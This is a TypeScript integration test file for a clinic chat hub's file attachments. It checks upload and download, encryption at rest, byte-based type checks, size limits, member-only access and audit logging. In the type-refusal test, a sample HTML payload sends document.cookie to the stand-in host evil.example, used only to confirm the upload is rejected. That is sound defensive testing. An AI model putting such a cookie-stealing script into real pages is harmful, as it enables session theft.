/**
 * Chat attachments over HTTP, on both servers (uWebSockets.js and Node HTTP):
 * upload and download by members, encrypted at rest, checked by their first
 * bytes and by size, every read audited.
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Redis } from 'ioredis';
import { CHAT_ATTACHMENTS_PATH, patientThreadId } from '@clinic-hub/protocol';
import { AttachmentCipher, attachmentAdditionalData } from '../src/chat/attachment-cipher.js';
import { chatKeys } from '../src/chat/chat-keys.js';
import { TEST_ATTACHMENT_KEY, attachmentsDirFor, startTestHubs, stopTestHubs, tokenFor, type HubNodeProcess } from '@clinic-hub/test-kit/hub-node';
import { chatRequest, connectChat, newClientMessageId, recordChat, type ChatSocket } from '@clinic-hub/test-kit/chat-client';
import { connectQueue, expectOk, request, type QueueSocket } from '@clinic-hub/test-kit/queue-client';
import type { TestRedis } from '@clinic-hub/test-kit/redis';
import { waitFor } from '@clinic-hub/test-kit/wait';

const CLINIC = 'testclinic';
const MAX_BYTES = 1024 * 1024;
const SECRET_TEXT = '検査結果：異常なし / lab result: normal';
const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(SECRET_TEXT), randomBytes(2048)]);
const PDF = Buffer.concat([Buffer.from(`%PDF-1.7\n% ${SECRET_TEXT}\n`), randomBytes(4096), Buffer.from('\n%%EOF\n')]);

let redis: TestRedis;
let client: Redis;
const hubs: Record<'uws' | 'node', HubNodeProcess> = {} as never;
const sockets: (ChatSocket | QueueSocket)[] = [];

beforeAll(async () => {
  const env = { HUB_ATTACHMENT_MAX_BYTES: String(MAX_BYTES) };
  ({ redis, nodes: [hubs.uws, hubs.node] } = await startTestHubs([{ nodeId: 'att-uws', server: 'uws' }, { nodeId: 'att-node', server: 'node' }], { env }));
  client = new Redis(redis.url);
});

afterAll(async () => {
  for (const socket of sockets.splice(0)) socket.close();
  client?.disconnect();
  await stopTestHubs(redis, Object.values(hubs));
});

describe.each(['uws', 'node'] as const)('attachments on a %s hub', (kind) => {
  const url = () => hubs[kind].url;
  let ticket = '';
  let threadId = '';
  let patientToken = '';
  /** A patient of another ticket, in the queue too: not a member of the first one's thread. */
  let otherPatientToken = '';

  const upload = async (bytes: Buffer, type: string | null, options: { token?: string; thread?: string; name?: string } = {}) => {
    const query = new URLSearchParams({ thread: options.thread ?? threadId, ...(options.name ? { name: options.name } : {}) });
    const res = await fetch(`${url()}${CHAT_ATTACHMENTS_PATH}?${query}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${options.token ?? patientToken}`, ...(type ? { 'content-type': type } : {}) },
      body: bytes,
    });
    return { status: res.status, json: (await res.json()) as any };
  };
  const download = async (id: string, token: string) => {
    const res = await fetch(`${url()}${CHAT_ATTACHMENTS_PATH}/${id}`, { headers: { authorization: `Bearer ${token}` } });
    return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
  };

  beforeAll(async () => {
    const reception = await connectQueue(url(), await tokenFor('staff'));
    sockets.push(reception);
    ticket = expectOk(await request(reception, 'queue:checkin', { dept: 'gp' })).event.ticket.id;
    threadId = patientThreadId(ticket);
    patientToken = await tokenFor('patient', CLINIC, { ticket, sub: `patient:${ticket}` });
    otherPatientToken = expectOk(await request(reception, 'queue:checkin', { dept: 'gp' })).patientToken;
  });

  it('round-trips an image and a PDF: upload, send, the other member receives and downloads them', async () => {
    const patient = await connectChat(url(), patientToken);
    const staffToken = await tokenFor('staff', CLINIC, { sub: `staff:${kind}` });
    const staff = await connectChat(url(), staffToken);
    sockets.push(patient, staff);
    const got = recordChat(staff);
    expectOk(await chatRequest(patient, 'chat:join', { threadId }));
    expectOk(await chatRequest(staff, 'chat:join', { threadId }));

    const image = await upload(PNG, 'image/png', { name: '喉の写真.png' });
    expect(image.status).toBe(201);
    expect(image.json.attachment).toMatchObject({ type: 'image/png', size: PNG.length, name: '喉の写真.png', threadId });
    const pdf = await upload(PDF, 'application/pdf', { name: 'referral' });
    expect(pdf.status).toBe(201);
    expect(pdf.json.attachment).toMatchObject({ type: 'application/pdf', size: PDF.length, name: 'referral.pdf' });

    const sent = expectOk(
      await chatRequest(patient, 'chat:send', { threadId, clientMessageId: newClientMessageId(), text: '写真と紹介状です', attachments: [image.json.attachment.id, pdf.json.attachment.id] }),
    );
    await waitFor('the message on the staff socket', () => got.messages.some((m) => m.id === sent.message.id));
    const [imageRef, pdfRef] = got.messages.find((m) => m.id === sent.message.id)!.attachments;
    expect(imageRef).toEqual({ id: image.json.attachment.id, type: 'image/png', size: PNG.length, name: '喉の写真.png' });

    const imageBack = await download(imageRef!.id, staffToken);
    expect(imageBack.status).toBe(200);
    expect(imageBack.bytes).toEqual(PNG);
    expect(imageBack.headers.get('content-type')).toBe('image/png');
    expect(imageBack.headers.get('content-disposition')).toBe(`inline; filename*=UTF-8''${encodeURIComponent('喉の写真.png')}`);
    expect(imageBack.headers.get('content-security-policy')).toContain('sandbox');
    expect(imageBack.headers.get('x-content-type-options')).toBe('nosniff');
    const pdfBack = await download(pdfRef!.id, patientToken);
    expect(pdfBack.bytes).toEqual(PDF);
    expect(pdfBack.headers.get('content-disposition')).toMatch(/^attachment;/);
  });

  it('keeps them encrypted at rest: the stored bytes are not the file and open only with the key', async () => {
    const { json } = await upload(PNG, 'image/png');
    // In the attachment storage (files under HUB_ATTACHMENTS_DIR), not in Redis.
    expect(await client.exists(chatKeys(CLINIC).attachmentBlob(json.attachment.id))).toBe(0);
    const sealed = readFileSync(join(attachmentsDirFor(redis.url), CLINIC, `${json.attachment.id}.bin`));
    expect(sealed.length).toBeGreaterThan(PNG.length);
    expect(sealed.includes(Buffer.from(SECRET_TEXT))).toBe(false);
    expect(sealed.includes(PNG.subarray(0, 8))).toBe(false);
    expect(sealed.includes(PNG.subarray(100, 132))).toBe(false);
    const aad = attachmentAdditionalData(CLINIC, threadId, json.attachment.id);
    expect(new AttachmentCipher(Buffer.from(TEST_ATTACHMENT_KEY, 'base64')).open(sealed, aad)).toEqual(PNG);
    expect(() => new AttachmentCipher(randomBytes(32)).open(sealed, aad)).toThrow();
  });

  it('refuses what is not an allowed type by its bytes, whatever it claims, with its code', async () => {
    const html = Buffer.from('<!doctype html><html><script>document.location="https://evil.example/"+document.cookie</script></html>');
    const exe = Buffer.concat([Buffer.from('MZ\x90\x00'), randomBytes(512)]);
    const gif = Buffer.from('GIF89a\x01\x00\x01\x00');
    for (const [bytes, type] of [
      [html, 'image/png'],
      [exe, 'image/png'],
      [exe, 'application/x-msdownload'],
      [html, 'text/html'],
      [gif, 'image/gif'],
      [PNG, 'application/pdf'],
    ] as const) {
      const res = await upload(bytes, type, { name: 'innocent.png' });
      expect(res.status, type).toBe(415);
      expect(res.json).toMatchObject({ error: { code: 'CHAT_ATTACHMENT_TYPE_NOT_ALLOWED' } });
    }
    const empty = await upload(Buffer.alloc(0), 'image/png');
    expect(empty.status).toBe(400);
    expect(empty.json).toMatchObject({ error: { code: 'INVALID_PAYLOAD' } });
  });

  it('refuses a file over the limit with CHAT_ATTACHMENT_TOO_LARGE, and the hub serves on', async () => {
    for (const size of [MAX_BYTES + 1, 4 * MAX_BYTES]) {
      const big = Buffer.concat([PNG.subarray(0, 8), Buffer.alloc(size - 8, 1)]);
      const res = await upload(big, 'image/png');
      expect(res.status, `${size} bytes`).toBe(413);
      expect(res.json).toMatchObject({ error: { code: 'CHAT_ATTACHMENT_TOO_LARGE' } });
    }
    // At the limit exactly: accepted.
    const fits = await upload(Buffer.concat([PNG.subarray(0, 8), Buffer.alloc(MAX_BYTES - 8, 1)]), 'image/png');
    expect(fits.status).toBe(201);
    // Other routes keep their own, smaller limit.
    const tokenBody = await fetch(`${url()}/api/tokens`, { method: 'POST', headers: { authorization: `Bearer ${await tokenFor('admin')}` }, body: Buffer.alloc(200 * 1024, 0x20) });
    expect(tokenBody.status).toBe(413);
    expect(await tokenBody.json()).toMatchObject({ error: { code: 'PAYLOAD_TOO_LARGE' } });
    expect((await fetch(`${url()}/healthz`)).status).toBe(200);
  });

  it('serves them to members only, with codes, and writes every read to the audit stream', async () => {
    const { json } = await upload(PNG, 'image/png');
    const staffToken = await tokenFor('staff', CLINIC, { sub: `staff:${kind}` });
    const patient = await connectChat(url(), patientToken);
    sockets.push(patient);
    expectOk(await chatRequest(patient, 'chat:send', { threadId, clientMessageId: newClientMessageId(), text: '', attachments: [json.attachment.id] }));

    const otherPatient = await download(json.attachment.id, otherPatientToken);
    expect(otherPatient.status).toBe(403);
    expect(JSON.parse(otherPatient.bytes.toString())).toMatchObject({ error: { code: 'CHAT_NOT_MEMBER' } });
    const noToken = await fetch(`${url()}${CHAT_ATTACHMENTS_PATH}/${json.attachment.id}`);
    expect(noToken.status).toBe(401);
    expect(await noToken.json()).toMatchObject({ error: { code: 'AUTH_REQUIRED' } });
    const missing = await download('x'.repeat(22), staffToken);
    expect(missing.status).toBe(404);
    expect(JSON.parse(missing.bytes.toString())).toMatchObject({ error: { code: 'CHAT_ATTACHMENT_NOT_FOUND' } });
    const nonMember = await upload(PNG, 'image/png', { token: otherPatientToken });
    expect(nonMember.status).toBe(403);
    expect(nonMember.json).toMatchObject({ error: { code: 'CHAT_NOT_MEMBER' } });
    const wrongMethod = await fetch(`${url()}${CHAT_ATTACHMENTS_PATH}/${json.attachment.id}`, { method: 'DELETE', headers: { authorization: `Bearer ${staffToken}` } });
    expect(wrongMethod.status).toBe(405);

    const auditBefore = await client.xlen(`ch:{${CLINIC}}:audit`);
    expect((await download(json.attachment.id, staffToken)).status).toBe(200);
    expect((await download(json.attachment.id, staffToken)).status).toBe(200);
    const entries = await client.xrevrange(`ch:{${CLINIC}}:audit`, '+', '-', 'COUNT', 2);
    expect(await client.xlen(`ch:{${CLINIC}}:audit`)).toBe(auditBefore + 2);
    for (const [, fields] of entries) {
      const entry = Object.fromEntries(fields.flatMap((_, i) => (i % 2 ? [] : [[fields[i], fields[i + 1]]])));
      expect(entry).toMatchObject({ actor: `staff:${kind}`, role: 'staff', action: 'chat.attachment.read', subject: `${threadId}/${json.attachment.id}`, from: expect.stringMatching(/127\.0\.0\.1/) });
    }
  });
});
